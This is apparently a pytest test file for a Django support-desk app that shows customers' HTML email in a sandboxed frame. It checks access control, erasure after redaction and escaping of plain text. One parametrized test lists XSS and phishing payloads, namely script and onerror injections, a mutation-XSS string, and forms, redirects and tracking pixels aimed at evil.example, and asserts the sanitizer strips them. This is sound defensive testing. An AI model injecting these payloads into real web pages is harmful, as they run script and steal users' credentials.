"""A mail as its sender laid it out: for whoever may read the message, in a frame that can do nothing."""

from __future__ import annotations

from email.message import EmailMessage
from email.policy import SMTP

import pytest
from django.test import Client
from django.urls import reverse

from tests.intake.mails import DESK, OUR_SERVER
from watchkeeper.incidents import verbs
from watchkeeper.incidents.reply_addresses import reply_address
from watchkeeper.intake.mail.erasing import erase_what_was_erased
from watchkeeper.intake.models import MailPage
from watchkeeper.people.wall import stand_for, stand_for_the_desk
from watchkeeper.ui.framed import CONTENT_SECURITY_POLICY

TABLE = '<table border="1"><tr><td style="color: #c00">Route</td><td>503</td></tr></table>'


def html_mail(author: str, html: str, *, to: str = DESK, plain: str = "", subject: str = "Routes") -> bytes:
    letter = EmailMessage(policy=SMTP)
    letter["Authentication-Results"] = f"{OUR_SERVER}; dmarc=pass header.from={author.rpartition('@')[2]}"
    letter["From"], letter["To"], letter["Subject"] = author, to, subject
    letter["Message-ID"] = f"<{abs(hash(html))}@{author.rpartition('@')[2]}>"
    if plain:
        letter.set_content(plain)
        letter.add_alternative(html, subtype="html")
    else:
        letter.set_content(html, subtype="html")
    return letter.as_bytes()


@pytest.fixture
def shown(cast, take, browser_of):
    """``shown(html)``: the page of Petra's mail, as she is answered."""

    def page(html: str, **how) -> tuple[str, str]:
        event = take(html_mail(cast.petra.email, html, **how)).event
        path = reverse("mail-as-sent", args=[event.data["page"]])
        return path, browser_of(cast.petra).get(path).content.decode()

    return page


def test_it_is_shown_as_it_was_laid_out_beside_the_words(cast, shown, browser_of) -> None:
    path, page = shown(f"<p>Down:</p>{TABLE}", plain="Down: Route 503")
    assert TABLE.replace("color: #c00", "color:#c00").replace("<tr>", "<tbody><tr>", 1)[:30] in page
    assert "color:#c00" in page
    for person, name in ((cast.petra, "portal-incident"), (cast.ana, "desk-incident")):
        from watchkeeper.incidents.models import Incident

        incident = Incident.objects.get()
        content = browser_of(person).get(reverse(name, args=[incident.reference])).content.decode()
        assert f'src="{path}"' in content
        assert "<iframe" in content
        assert " sandbox " in content


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
        "<iframe src=https://evil.example></iframe>",
        "<form action=https://evil.example><input name=password></form>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/>",
        "<a href=https://evil.example/phish>Sign in</a>",
        "<img src='https://evil.example/pixel.gif'>",
        "<td background=https://evil.example/x>",
        "<div style='background: url(https://evil.example/x); position: fixed; top: 0'>x</div>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<style>body { background: url(https://evil.example) }</style>",
        "<p style='font-family: url(https://evil.example)'>x</p></body></html><script>alert(1)</script>",
    ],
)
def test_nothing_in_it_acts_or_comes_from_elsewhere(shown, hostile) -> None:
    _, page = shown(f"<p>Down.</p>{hostile}<p>End.</p>")
    body = page.partition("<body>")[2].lower()
    assert "end." in body
    acting = "<script onerror onload <img <iframe <form <link <meta <base href <style background position"
    for forbidden in acting.split():
        assert forbidden not in body
    if "url(" in body:  # a font of that name: the frame's policy loads none
        assert "default-src 'none'" in CONTENT_SECURITY_POLICY


def test_the_frame_may_do_nothing(cast, take, browser_of) -> None:
    event = take(html_mail(cast.petra.email, "<p>Down.</p>")).event
    answer = browser_of(cast.petra).get(reverse("mail-as-sent", args=[event.data["page"]]))
    assert answer.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
    assert {"default-src 'none'", "sandbox", "frame-ancestors 'self'"} <= set(CONTENT_SECURITY_POLICY.split("; "))
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_only_who_reads_the_message_reads_its_page(cast, take, browser_of) -> None:
    event = take(html_mail(cast.petra.email, "<p>Down.</p>")).event
    path = reverse("mail-as-sent", args=[event.data["page"]])
    assert browser_of(cast.petra).get(path).status_code == 200
    assert browser_of(cast.ana).get(path).status_code == 200
    assert browser_of(cast.basil).get(path).status_code == 404
    assert Client().get(path).status_code == 302
    stand_for_the_desk()
    cast.premium.team.members.remove(cast.ana)
    from watchkeeper.people.models import Team

    Team.objects.create(name="Elsewhere").members.add(cast.ana)
    assert browser_of(cast.ana).get(path).status_code == 404


def test_another_account_sees_no_row_of_it(cast, take) -> None:
    take(html_mail(cast.petra.email, "<p>Down.</p>"))
    stand_for(cast.basic)
    assert not MailPage.objects.exists()
    stand_for(cast.premium)
    assert MailPage.objects.count() == 1


def test_erasing_the_message_erases_its_page_at_once_and_for_good(cast, take, browser_of) -> None:
    event = take(html_mail(cast.petra.email, "<p>canary-7</p>")).event
    path = reverse("mail-as-sent", args=[event.data["page"]])
    verbs.redact(event.incident, number=1, by=cast.ana, reason="A password.")
    assert browser_of(cast.ana).get(path).status_code == 404
    stand_for_the_desk()
    erase_what_was_erased()
    stand_for_the_desk()
    assert MailPage.objects.get().html == ""


def test_a_reply_of_the_team_has_no_page_and_repeats_no_notice_of_theirs(cast, take) -> None:
    incident = take(html_mail(cast.petra.email, "<p>Down.</p>")).incident
    quote = "<p>On it.</p><p>On Mon, 2 Mar 2026 at 10:00, Support wrote:</p><blockquote>canary: nobody</blockquote>"
    to = reply_address(incident, cast.ana)
    mail = take(html_mail(cast.ana.email, quote, to=to, subject="Re: Routes"))
    assert "page" not in mail.event.data
    assert mail.event.message.body == "On it."
    assert b"canary" in bytes(mail.raw.data).replace(b"=\r\n", b""), "as it came it is kept"


def test_what_is_too_large_to_lay_out_is_shown_as_words_alone(cast, take) -> None:
    event = take(html_mail(cast.petra.email, "<p>x</p>" * 30_000)).event
    assert "page" not in event.data


# Plain text


@pytest.mark.parametrize(
    "text", ["*.log is full", "# not a heading", "1) first\n2) second", "a_b_c <b>x</b> [x](http://e.example)"]
)
def test_a_plain_mail_is_shown_as_it_was_typed(cast, take, browser_of, text) -> None:
    from django.utils.html import escape

    from tests.intake.mails import a_mail

    incident = take(a_mail(cast.petra.email, text)).incident
    for person, name in ((cast.petra, "portal-incident"), (cast.ana, "desk-incident")):
        page = browser_of(person).get(reverse(name, args=[incident.reference])).content.decode()
        assert f'<p class="plain">{escape(text)}</p>' in page


def test_what_a_plain_mail_repeats_is_folded_as_well(cast, take, browser_of) -> None:
    from tests.intake.mails import a_mail

    incident = take(a_mail(cast.petra.email)).incident
    text = "Still *down*.\n\nOn Mon, 2 Mar 2026 at 10:00, Support wrote:\n> We have it.\n> Its reference.\n> Bye."
    take(a_mail(cast.petra.email, text, to=reply_address(incident, cast.petra), subject="Re: The gateway"))
    page = browser_of(cast.petra).get(reverse("portal-incident", args=[incident.reference])).content.decode()
    assert '<p class="plain">Still *down*.</p><details class="quote">' in page


def test_a_mail_of_html_is_no_plain_one(cast, take) -> None:
    event = take(html_mail(cast.petra.email, "<p>It is <b>down</b>.</p>")).event
    assert "is_plain" not in event.data
    assert event.message.body == "It is **down**."
